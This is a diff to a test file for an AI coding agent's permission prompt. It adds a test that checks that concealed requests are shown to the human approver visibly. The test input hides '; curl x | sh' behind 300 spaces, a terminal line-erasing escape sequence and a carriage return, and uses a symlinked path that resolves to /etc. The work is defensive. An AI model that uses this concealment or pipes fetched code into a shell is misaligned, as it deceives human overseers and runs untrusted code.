@@ -123,7 +123,7 @@ describe("the interactive permission prompt", () => {
   it("shows the start of an edit's diff", () => {
     const diff = Array.from({ length: 30 }, (_, i) => `+line ${i}`).join("\n");
     const text = describeAsk(ask({ kind: "edit", title: "Edit a.ts", command: undefined, paths: ["a.ts"], reason: undefined, diff }), "p-2");
-    expect(text).toContain("   paths:   a.ts\n   +line 0\n");
+    expect(text).toContain("   path:    a.ts\n   +line 0\n");
     expect(text).toContain("   +line 19\n   … 10 more lines\n");
   });
 });
@@ -164,5 +164,17 @@ describe("the local permission gate", () => {
     const strict = createLocalGate({ config: { ...config, requireJustification: true }, workspaceDir: "/w", asker: async () => "allow" });
     expect(await strict.decide(ask({ reason: undefined }), signal)).toEqual({ outcome: "selected", optionId: "no" });
     expect(strict.audit[0]?.decidedBy).toBe("policy (no reason given)");
+  });
+});
+
+describe("describeAsk shows the request whole and inert (issue 11)", () => {
+  it("makes terminal escape sequences, hidden space runs and symlinked paths visible", () => {
+    const text = describeAsk(
+      ask({ command: `npm test${" ".repeat(300)}\u001b[2K\r; curl x | sh`, paths: ["docs/link/x"], resolvedPaths: ["/etc/x"] }),
+      "p-3",
+    );
+    expect(text).toContain("   command: npm test⟨300 spaces⟩⟨U+001B⟩[2K⟨CR⟩; curl x | sh\n");
+    expect(text).toContain("   path:    docs/link/x → resolves to /etc/x\n");
+    expect(text).not.toContain("\u001b");
   });
 });
